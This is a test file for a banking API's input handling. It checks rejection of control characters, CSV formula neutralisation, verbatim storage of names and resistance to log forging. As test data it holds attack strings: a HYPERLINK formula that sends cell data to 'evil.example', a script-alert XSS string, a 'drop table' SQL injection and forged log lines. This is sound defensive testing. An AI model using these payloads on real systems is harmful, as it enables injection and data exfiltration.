import { beforeAll, expect, test } from 'vitest'
import { allCalls, type CallName } from '../contract/calls.ts'
import { textPattern, wholeTextPattern } from '../contract/fields.ts'
import { plainPattern } from '../contract/plain-patterns.ts'
import { exportLists } from '../contract/rules.ts'
import { wireForm } from '../server/testing/money.ts'
import { asForm } from '../server/testing/people.ts'
import { inTurn } from './in-turn.ts'
import { type Sample, samplesOf, sendFields } from './samples.ts'
import { pdf, type Stage, setStage, stateOf, victim } from './stage.ts'

let stage: Stage
let sampleOf: (name: CallName) => Sample
let before: Record<string, string>
const log: string[] = []
beforeAll(async () => {
  stage = await setStage({ logStream: { write: (line) => log.push(line) } })
  sampleOf = await samplesOf(stage)
  before = await stateOf(stage.bank)
})

/** NUL, bell, escape, delete, next line, the eight-bit escape, and signs that turn the direction of writing. */
const controls = ['\u0000', '\u0007', '\u001b[2J', '\u007f', '\u0085', '\u009b2J', '\u202e', '\u2066']

/** As the API document writes them. */
const manyLines = [textPattern, wholeTextPattern].map(plainPattern)

const takingFields = allCalls.filter(([, call]) => call.body).map(([name]) => name)

test.each(takingFields)('S22 no text of %s takes control characters', async (name) => {
  const { bank } = stage
  const sample = sampleOf(name)
  for (const [place, [field, value]] of Object.entries(sample.fields).entries()) {
    // A password is hashed, never shown.
    if (typeof value !== 'string' || /password/i.test(field)) continue
    const pattern = JSON.stringify(sample.operation.body?.properties?.[field])
    const takesLines = manyLines.some((several) => pattern.includes(JSON.stringify(several)))
    const all = takesLines ? controls : [...controls, '\r\nInjected: yes', '\u2028']
    for (const control of inTurn(all, 5, takingFields.indexOf(name) + place)) {
      const reply = await sendFields(bank, sample, { ...sample.fields, [field]: `${value}${control}` })
      expect([field, control, reply.statusCode]).toEqual([field, control, 400])
    }
  }
})

test('S22 after all these texts nothing has changed', async () => {
  expect(await stateOf(stage.bank)).toEqual(before)
})

const searching = allCalls.filter(([, call]) => call.query).map(([name]) => name)

test.each(searching)('S22 no search of %s takes control characters', async (name) => {
  const { operation, url, token } = sampleOf(name)
  const texts = Object.entries(operation.query).filter(
    ([, { type, enum: choices }]) => type === 'string' && !choices,
  )
  for (const [field] of texts) {
    for (const control of inTurn(controls, 4, searching.indexOf(name))) {
      const search = new URLSearchParams({ [field]: `a${control}` })
      const headers = { ...(token && { authorization: `Bearer ${token}` }) }
      const { app } = stage.bank
      const reply = await app.inject({ method: operation.method as 'GET', url: `${url}?${search}`, headers })
      expect([field, control, reply.statusCode]).toEqual([field, control, 400])
    }
  }
})

test.each(['GET /view-all-users', 'GET /audit-trail', 'GET /get-messages', 'GET /view-all-history'] as const)(
  '%s searches for anything without breaking',
  async (name) => {
    for (const q of [
      '\u0000',
      '%',
      '_',
      '\\',
      "'",
      '"',
      '\ud800',
      '%_\\',
      '$1',
      'x'.repeat(200),
      '()*+[]|?^',
    ]) {
      const reply = await stage.bank.call(name, { token: stage.desk.token, query: { q } })
      expect([q, [200, 400].includes(reply.status)]).toEqual([q, true])
    }
  },
)

test.each([
  'עברית and العربية',
  'Zoë Ångström-Łęcki',
  '𠜎𠜱 👩‍👩‍👧‍👦 e\u0301',
  '<script>alert(1)</script>&amp;"\'',
  "Robert'); drop table bank.customers;--",
])('S22 %s is a name like any other and comes back as it was', async (accountName) => {
  const { bank, bea } = stage
  const body = { accountName, accountNumber: 'DE02 1203 0000', bank: 'Elsewhere' }
  const saved = await bank.call('POST /beneficiaries', { token: bea.token, body })
  expect(saved.body.data.accountName).toBe(accountName)
})

const formula = '=HYPERLINK("http://evil.example?"&A1)'

/** Puts a formula wherever a customer may write. */
async function writeFormulas() {
  const { bank, desk } = stage
  const { id, token, email } = await victim(bank, desk)
  const params = { userId: id }
  const texts = {
    fullName: formula,
    username: `-${id.slice(0, 8)}`,
    occupation: `+${formula}`,
    address: `-${formula}`,
  }
  const calls = [
    bank.call('PUT /admin-update/{userId}', { token: desk.token, params, body: texts }),
    bank.call('POST /message-admin/{userId}', {
      token,
      params,
      body: { name: formula, email, message: formula },
    }),
    bank.call('POST /upload-document', {
      token,
      ...(await asForm({ title: formula, documents: new Blob([pdf as never]) })),
    }),
    bank.call('POST /card-details', {
      token,
      body: { cardNumber: '5555555555554444', cardHolderName: formula, expiryDate: '12/39', cvv: '123' },
    }),
    bank.call('POST /loan-request/{userId}', {
      token,
      params,
      body: { loanType: 'mortgages', amount: 7, loanReason: `\t${formula}` },
    }),
    bank.call('POST /transfer', {
      token,
      body: wireForm({ accountNumber: '99887766', fullName: formula }, 1, {
        bank: formula,
        description: formula,
      }),
    }),
  ]
  for (const { status, body } of await Promise.all(calls)) expect([status, body]).toEqual([200, body])
  return { id, token }
}

/** The cells of a table, quotes taken off. */
const cellsOf = (csv: string) =>
  [...csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )

test('S22 no cell of any table begins a formula', async () => {
  const { id, token } = await writeFormulas()
  const { bank, desk } = stage
  const tables = [
    ...exportLists.map((list) => bank.call('GET /export/{list}', { token: desk.token, params: { list } })),
    bank.call('GET /export-history', { token: desk.token }),
    bank.call('GET /export-wires', { token: desk.token }),
    bank.call('GET /export-loans', { token: desk.token }),
    bank.call('GET /bank-statement/{userId}/csv', { token, params: { userId: id } }),
  ]
  let formulas = 0
  for (const { status, body } of await Promise.all(tables)) {
    expect(status).toBe(200)
    const cells = cellsOf(body)
    formulas += cells.filter((cell) => cell.includes('HYPERLINK')).length
    const live = cells.filter(
      (cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell) && Number.isNaN(Number(cell)),
    )
    expect(live).toEqual([])
  }
  expect(formulas).toBeGreaterThan(8)
})

test('S22 nothing that is sent makes a log line of its own', async () => {
  const { bank } = stage
  const forged = '\n{"level":60,"msg":"forged"}\r\n'
  log.length = 0
  await bank.app.inject({ url: `/nothing${encodeURIComponent(forged)}?q=${encodeURIComponent(forged)}` })
  await bank.app.inject({ method: 'POST', url: '/contact', payload: { [forged]: forged } })
  await bank.app.inject({
    url: '/view-all-users',
    headers: { authorization: 'Bearer \u2028forged', 'x-a': 'forged' },
  })
  for (const line of log) {
    expect(line.trimEnd()).not.toContain('\n')
    expect(JSON.parse(line).msg).not.toBe('forged')
  }
  expect(log.filter((line) => JSON.parse(line).msg === 'answered')).toHaveLength(3)
})
